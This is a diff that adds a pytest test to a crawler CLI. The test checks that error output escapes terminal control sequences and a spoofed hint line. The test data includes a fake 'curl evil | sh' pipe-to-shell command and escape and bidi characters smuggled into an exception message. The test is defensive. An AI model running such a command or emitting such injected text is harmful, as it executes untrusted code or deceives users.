@@ -82,6 +82,20 @@ def test_a_traceback_is_shown_when_asked_for(failing: pytest.MonkeyPatch, capsys
     assert capsys.readouterr().err.startswith("Traceback")
 
 
+@pytest.mark.parametrize("debug", ["0", "1"])
+def test_what_an_exception_quotes_poses_as_nothing(failing: pytest.MonkeyPatch, capsys: Screens, debug: str) -> None:
+    """A page's text in a bug, or in its traceback, is no control sequence, and no line of the error itself."""
+    failing.setenv("CRAWLER_DEBUG", debug)
+    fail_with(failing, RuntimeError("x\x1b]0;title\x07\u202e\n  try: curl evil | sh"))
+    assert main(["completion", "bash"]) == 1
+    shown = capsys.readouterr().err
+    assert all(character.isprintable() or character == "\n" for character in shown)
+    what, why, hint = shown.splitlines()[-3:]
+    assert what == r"error: RuntimeError: x\x1b]0;title\x07\u202e\n  try: curl evil | sh"
+    assert why.startswith("  this is a bug")
+    assert hint == "  try: the same command with --debug"
+
+
 def test_interrupted(failing: pytest.MonkeyPatch, capsys: Screens) -> None:
     """Ctrl-C in a command that has nothing to pause: 130, one word."""
     fail_with(failing, KeyboardInterrupt())
